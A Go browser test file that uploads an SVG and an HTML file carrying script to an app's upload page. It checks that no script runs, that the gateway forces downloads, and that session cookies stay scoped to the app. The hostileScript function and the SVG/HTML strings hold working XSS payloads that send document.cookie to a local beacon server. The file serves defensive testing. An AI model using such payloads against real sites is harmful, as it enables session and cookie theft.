package browsertest_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"modelmarket/web/browsertest"
)

// beacon is a server the hostile files call when their script runs: any
// hit means a script ran somewhere.
// It also serves /control: the same script in a plain page, no sandbox, to
// prove the markers do fire when a script runs.
type beacon struct {
	srv     *httptest.Server
	control string // the page served at /control
	mu      sync.Mutex
	hits    []string
}

func newBeacon(t *testing.T) *beacon {
	b := &beacon{}
	b.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/control" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(b.control))
			return
		}
		if r.URL.Query().Get("from") == "" {
			return // the browser's own requests (favicon.ico), not a marker
		}
		b.mu.Lock()
		b.hits = append(b.hits, r.URL.String()+" cookie="+r.Header.Get("Cookie"))
		b.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(b.srv.Close)
	return b
}

func (b *beacon) Hits() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.hits...)
}

// hostileScript sets every marker the test looks for: the beacon, the
// title, localStorage and a fetch to the app's own origin.
func hostileScript(beaconURL, appURL, from string) string {
	return `document.title = 'XSS-RAN';
try { localStorage.setItem('xss', '` + from + `'); } catch (e) {}
fetch('` + beaconURL + `/ran?from=` + from + `&origin=' + encodeURIComponent(location.origin) + '&cookie=' + encodeURIComponent(document.cookie));
fetch('` + appURL + `/xss-ran?from=` + from + `', {credentials: 'include'});
new Image().src = '` + beaconURL + `/img?from=` + from + `';`
}

// TestUpload_HostileFilesRunNoScript: a creator uploads an SVG and an HTML
// file that carry script, through the real upload page (tus). Then the
// files are opened on the gateway, the upload page lists them, and the SVG
// is shown as an <img> on the app's origin: no script runs anywhere (the
// beacon hears nothing, the markers stay unset), the gateway answers with
// downloads, and the app's session cookie is not one the browser would send
// to the gateway (another host).
func TestUpload_HostileFilesRunNoScript(t *testing.T) {
	env := browsertest.Shared(t)
	bc := newBeacon(t)
	dir := t.TempDir()
	svgPath := filepath.Join(dir, "evil.svg")
	htmlPath := filepath.Join(dir, "evil.html")
	svg := `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="` +
		`fetch('` + bc.srv.URL + `/onload?from=svg')"><rect width="40" height="40" fill="red"/>` +
		`<script type="application/ecmascript"><![CDATA[` + hostileScript(bc.srv.URL, env.App.URL, "svg") + `]]></script></svg>`
	html := `<!doctype html><html><head><title>ok</title></head><body onload="fetch('` + bc.srv.URL + `/onload?from=html')">` +
		`<script>` + hostileScript(bc.srv.URL, env.App.URL, "html") + `</script><img src="x" onerror="fetch('` +
		bc.srv.URL + `/onerror?from=html')"></body></html>`
	for p, s := range map[string]string{svgPath: svg, htmlPath: html} {
		if err := os.WriteFile(p, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}

	// Control: the same script on an ordinary page does reach the beacon,
	// so silence below means it did not run. (Its "app" fetch goes to the
	// beacon too: the app's log must only ever show the hostile files'.)
	bc.control = `<!doctype html><script>` + hostileScript(bc.srv.URL, bc.srv.URL, "control") + `</script>`
	ctl := env.NewPage(t, browsertest.PageOptions{NoWallet: true})
	// page.Navigate returns once the navigation commits; chromedp.Navigate
	// would also wait for the load event, which the test does not need.
	ctl.Run("open the control page", chromedp.ActionFunc(func(ctx context.Context) error {
		_, _, _, _, err := page.Navigate(bc.srv.URL + "/control").Do(ctx)
		return err
	}))
	for deadline := time.Now().Add(5 * time.Second); len(bc.Hits()) == 0; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("control: the script on a plain page never reached the beacon; the test would prove nothing")
		}
	}
	bc.mu.Lock()
	bc.hits = nil
	bc.mu.Unlock()

	p := env.NewPage(t, browsertest.PageOptions{Wallet: browsertest.WalletOptions{Account: 7}})
	p.Go("/upload")
	p.SignIn()
	p.WaitVisible("[data-upload-zone]")
	p.Run("choose files", chromedp.SetUploadFiles("[data-upload-input]", []string{svgPath, htmlPath}, chromedp.ByQuery))
	svgRow, htmlRow := `[data-upload-item="evil.svg"]`, `[data-upload-item="evil.html"]`
	p.WaitVisible(svgRow + `[data-state="done"] [data-upload-card]`)
	p.WaitVisible(htmlRow + `[data-state="done"] [data-upload-card]`)
	svgURL := env.App.Gateway + "/ipfs/" + strings.TrimSpace(p.Text(svgRow+" [data-upload-cid]"))
	htmlURL := env.App.Gateway + "/ipfs/" + strings.TrimSpace(p.Text(htmlRow+" [data-upload-cid]"))

	// (b) the upload page, reloaded, lists both.
	p.Go("/upload")
	if list := p.Text("[data-upload-list]"); !strings.Contains(list, "evil.svg") || !strings.Contains(list, "evil.html") {
		t.Fatalf("My uploads: %q", list)
	}

	// (c) the SVG as an image on the app's origin (the page itself may not
	// show one for SVG: the test adds it, as a card or a listing would).
	var loaded struct {
		Width int  `json:"width"`
		OK    bool `json:"ok"`
	}
	p.Eval(`new Promise((ok) => { const i = document.createElement('img'); i.src = '`+svgURL+`';
		i.onload = () => ok({width: i.naturalWidth, ok: true}); i.onerror = () => ok({width: 0, ok: false});
		document.body.append(i); })`, &loaded)
	t.Logf("SVG as <img> on the app: %+v (blocked or drawn inert, either is safe)", loaded)

	// (a) each file opened in a tab of its own on the gateway: a download,
	// never a page.
	for _, u := range []string{svgURL, htmlURL, svgURL + "?filename=evil.svg", htmlURL + "?download=false"} {
		openOnGateway(t, env, u)
	}

	time.Sleep(300 * time.Millisecond) // let a stray fetch arrive
	// The control page's second beacon (its image) may land late: only the
	// hostile files' hits count.
	var hits []string
	for _, h := range bc.Hits() {
		if !strings.Contains(h, "from=control") {
			hits = append(hits, h)
		}
	}
	if len(hits) > 0 {
		t.Errorf("script ran: the beacon heard %q", hits)
	}
	var markers struct {
		Title string `json:"title"`
		Xss   string `json:"xss"`
	}
	p.Eval(`({title: document.title, xss: localStorage.getItem('xss') ?? ''})`, &markers)
	if markers.Title == "XSS-RAN" || markers.Xss != "" {
		t.Errorf("markers on the app origin: %+v", markers)
	}
	if strings.Contains(env.App.Stdout()+env.App.Stderr(), "/xss-ran") {
		t.Error("the app received the hostile script's fetch /xss-ran")
	}

	// The app's cookies (the session among them) are for the app's host
	// only: the browser would send none of them to the gateway.
	appCookies := p.Cookies()
	if len(appCookies) == 0 {
		t.Fatal("signed in, yet the app has no cookie: the check below would prove nothing")
	}
	var toGateway []*network.Cookie
	p.Run("cookies for the gateway", chromedp.ActionFunc(func(ctx context.Context) error {
		var err error
		toGateway, err = network.GetCookies().WithURLs([]string{svgURL, htmlURL}).Do(ctx)
		return err
	}))
	for _, c := range toGateway {
		for _, a := range appCookies {
			if c.Name == a.Name && c.Value == a.Value {
				t.Errorf("the app's cookie %s would be sent to the gateway (domain %s)", c.Name, c.Domain)
			}
		}
	}
	noCSPViolations(t, p)
}

// openOnGateway navigates a fresh tab (own browser context) to u and
// asserts the browser turned it into a download (Content-Disposition:
// attachment), not a rendered page.
func openOnGateway(t *testing.T, env *browsertest.Env, u string) {
	t.Helper()
	tab := env.NewPage(t, browsertest.PageOptions{NoWallet: true})
	dl := t.TempDir()
	var isDownload bool
	var errorText string
	tab.Run("open "+u, chromedp.ActionFunc(func(ctx context.Context) error {
		info, err := target.GetTargetInfo().Do(ctx)
		if err != nil {
			return err
		}
		// Downloads go to a temp dir, not the machine's home.
		bctx := cdp.WithExecutor(ctx, chromedp.FromContext(ctx).Browser)
		err = browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorAllowAndName).
			WithBrowserContextID(info.BrowserContextID).WithDownloadPath(dl).Do(bctx)
		if err != nil {
			return err
		}
		_, _, errorText, isDownload, err = page.Navigate(u).Do(ctx)
		return err
	}))
	if !isDownload {
		var title string
		tab.Run("read title", chromedp.Title(&title))
		t.Errorf("%s: the browser did not download it (error %q, title %q): it may have rendered it", u, errorText, title)
	}
}
